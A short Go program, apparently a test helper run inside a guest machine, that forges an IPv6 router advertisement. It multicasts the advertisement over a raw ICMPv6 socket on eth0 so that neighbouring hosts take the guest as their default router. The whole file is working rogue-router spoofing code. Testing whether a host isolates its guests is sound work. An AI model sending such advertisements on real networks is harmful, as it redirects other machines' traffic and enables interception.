// Program rogue runs in a guest, and sends what only a router should: an IPv6
// router advertisement to everybody on eth0, by which who believes it takes the
// guest for its way to the rest of the world.
package main

import (
	"encoding/binary"
	"errors"
	"log"
	"net"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	nic, err := net.InterfaceByName("eth0")
	if err != nil {
		log.Fatal(err)
	}
	// A NIC that has just come up tries its address for a second or so before it has it: RFC 4862, 5.4.
	deadline := time.Now().Add(30 * time.Second)
	for {
		err := send(nic.Index, advertisement())
		if err == nil {
			return
		}
		if !errors.Is(err, unix.EADDRNOTAVAIL) || time.Now().After(deadline) {
			log.Fatal(err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// advertisement is that of a router for half an hour, with a prefix to make
// addresses of: RFC 4861, 4.2 and 4.6.2.
func advertisement() []byte {
	prefix := netip.MustParseAddr("2001:2:0:bad::").As16() // RFC 5180: nobody's
	m := []byte{134, 0, 0, 0 /* the kernel adds the checksum */, 64, 0}
	m = binary.BigEndian.AppendUint16(m, 1800)
	m = append(m, make([]byte, 8)...) // timers: as they are
	m = append(m, 3, 4, 64, 0b1100_0000)
	m = binary.BigEndian.AppendUint32(m, 1800)
	m = binary.BigEndian.AppendUint32(m, 1800)
	m = append(m, 0, 0, 0, 0)
	return append(m, prefix[:]...)
}

func send(nic int, message []byte) error {
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMPV6)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	// One that came from further away would not be believed.
	if err := unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_MULTICAST_HOPS, 255); err != nil {
		return err
	}
	to := &unix.SockaddrInet6{ZoneId: uint32(nic), Addr: netip.MustParseAddr("ff02::1").As16()}
	return unix.Sendto(fd, message, 0, to)
}
